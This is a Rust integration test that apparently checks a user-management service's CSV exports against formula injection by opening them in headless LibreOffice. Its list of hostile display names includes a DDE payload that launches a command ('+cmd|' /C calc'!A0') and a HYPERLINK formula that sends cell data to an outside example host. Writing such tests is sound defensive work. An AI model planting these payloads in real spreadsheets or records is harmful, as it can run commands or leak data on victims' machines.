//! Promise O1 with a spreadsheet program that is not ours: `LibreOffice` opens what goes out, and nothing in it is a formula.
//! `LATCHKEY_TEST_REQUIRE_SOFFICE=1` makes a machine without it a failure.

use super::support::{new_job, reset_all, run};
use domain::wire::jobs::NewJob;
use domain::wire::people::{PeopleFilter, Selection};
use domain::{PersonId, fold};
use futures::TryStreamExt as _;
use service::testing::{blank_person, one_desk};
use service::{Caller, export, jobs};
use std::path::Path;
use std::process::{Command, Stdio};

type Outcome = Result<(), Box<dyn std::error::Error + Send + Sync>>;

/// What people might be called by somebody who means harm.
const HOSTILE: [&str; 10] = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "=HYPERLINK(\"http://elsewhere.example/?\"&A1;\"Pay\")",
    "Zoë, \"Z\"; =1+1",
    "＝1+1",
];

/// The program, if it is here.
#[expect(
    clippy::print_stdout,
    reason = "what is left out is to be seen in the output of the tests"
)]
fn program() -> Result<Option<&'static str>, String> {
    let found = [
        "soffice",
        "libreoffice",
        "/usr/lib/libreoffice/program/soffice",
    ]
    .into_iter()
    .find(|name| {
        let mut command = Command::new(name);
        command.arg("--version").stdout(Stdio::null());
        command.stderr(Stdio::null());
        command.status().is_ok_and(|status| status.success())
    });
    if found.is_some() {
        return Ok(found);
    }
    let line = "LibreOffice is missing: apt-get install --yes --no-install-recommends libreoffice-calc-nogui";
    if std::env::var("LATCHKEY_TEST_REQUIRE_SOFFICE").is_ok_and(|value| value == "1") {
        return Err(line.to_owned());
    }
    println!("LEFT OUT: {line}");
    Ok(None)
}

/// The file as `LibreOffice` has it after opening: flat XML.
fn opened(program: &str, folder: &Path, name: &str, csv: &[u8]) -> Result<String, String> {
    let said = |error: std::io::Error| error.to_string();
    let file = folder.join(name).with_extension("csv");
    std::fs::write(&file, csv).map_err(said)?;
    let profile = format!(
        "-env:UserInstallation=file://{}",
        folder.join("profile").display()
    );
    let output = Command::new(program)
        .args([&profile, "--headless", "--norestore"])
        // Commas, double quotes, UTF-8, from the first line on.
        .args([
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
        ])
        .arg(folder)
        .arg(&file)
        .stdin(Stdio::null())
        .output()
        .map_err(said)?;
    let words = String::from_utf8_lossy(&output.stderr).into_owned();
    std::fs::read_to_string(file.with_extension("fods")).map_err(|_| words)
}

/// The texts of all cells that are not empty, in order.
fn texts(sheet: &str) -> Vec<String> {
    let mut all = Vec::new();
    for cell in sheet.split("<table:table-cell").skip(1) {
        let cell = cell.split("</table:table-cell>").next().unwrap_or_default();
        let paragraphs: Vec<String> = cell
            .split("<text:p>")
            .skip(1)
            .filter_map(|part| part.split("</text:p>").next())
            .map(plain)
            .collect();
        if !paragraphs.is_empty() {
            all.push(paragraphs.join("\n"));
        }
    }
    all
}

/// Without marks.
fn plain(paragraph: &str) -> String {
    let paragraph = paragraph
        .replace("<text:tab/>", "\t")
        .replace("<text:s/>", " ");
    let mut text = String::new();
    let mut rest = paragraph.as_str();
    while let Some((before, after)) = rest.split_once('<') {
        text.push_str(before);
        rest = after.split_once('>').map_or("", |(_, after)| after);
    }
    text.push_str(rest);
    [
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&apos;", "'"),
        ("&amp;", "&"),
    ]
    .iter()
    .fold(text, |text, (mark, meant)| text.replace(mark, meant))
}

/// The cell as a file has it: guarded, and with ends of lines as a sheet has them.
fn in_file(text: &str) -> String {
    domain::csv_guard::guard(text).replace('\r', "\n")
}

#[tokio::test]
async fn o1_a_spreadsheet_program_sees_text_and_no_formula() -> Outcome {
    let Some(program) = program()? else {
        return Ok(());
    };
    let folder = tempfile::tempdir()?;
    // It is a test: this program runs what it takes for a formula.
    let runs = opened(program, folder.path(), "unguarded", b"Name\n=1+1\n")?;
    assert!(runs.contains("table:formula"), "an unguarded cell is one");
    let desk = one_desk().await?;
    let now = desk.now();
    let people: Vec<_> = HOSTILE
        .iter()
        .zip(1..)
        .map(|(name, n)| {
            // Signs that a user name can begin with, too.
            let sign = ["=", "+", "-", "p"][n % 4];
            let mut person = blank_person(
                PersonId(desk.new_id()),
                &format!("{sign}{n}@x.example"),
                now,
            );
            person.display_name = (*name).to_owned();
            person.display_name_key = fold::key(name);
            person.department = (*name).to_owned();
            person
        })
        .collect();
    let (names, ids): (Vec<_>, Vec<_>) = people
        .iter()
        .map(|person| (person.user_name.clone(), PersonId(person.id)))
        .unzip();
    let put = &people;
    desk.store()
        .write(|tx| async move { store::people::insert_many(&tx, put.clone()).await })
        .await?;
    let operator = &Caller::operator();
    let csv: Vec<Vec<u8>> = export::people_csv(&desk, operator, &PeopleFilter::default())
        .await?
        .try_collect()
        .await?;
    let sheet = opened(program, folder.path(), "people", &csv.concat())?;
    assert!(!sheet.contains("table:formula"), "people");
    let cells = texts(&sheet);
    for text in HOSTILE
        .iter()
        .copied()
        .chain(names.iter().map(String::as_str))
    {
        assert!(cells.contains(&in_file(text)), "{text:?} in {cells:?}");
    }
    let wanted = NewJob {
        selection: Selection::Ids(ids),
        ..new_job(reset_all().work)
    };
    let job = run(&desk, operator, &wanted).await?;
    let csv: Vec<Vec<u8>> = jobs::csv(&desk, operator, job.id, false)
        .await?
        .try_collect()
        .await?;
    let sheet = opened(program, folder.path(), "passwords", &csv.concat())?;
    assert!(!sheet.contains("table:formula"), "passwords");
    let cells = texts(&sheet);
    let results = jobs::results(&desk, operator, job.id, 0, false).await?;
    assert_eq!(results.rows.len(), HOSTILE.len());
    for row in &results.rows {
        for text in [row.user_name.as_str(), row.password.expose()] {
            assert!(cells.contains(&in_file(text)), "{text:?} in {cells:?}");
        }
    }
    Ok(())
}
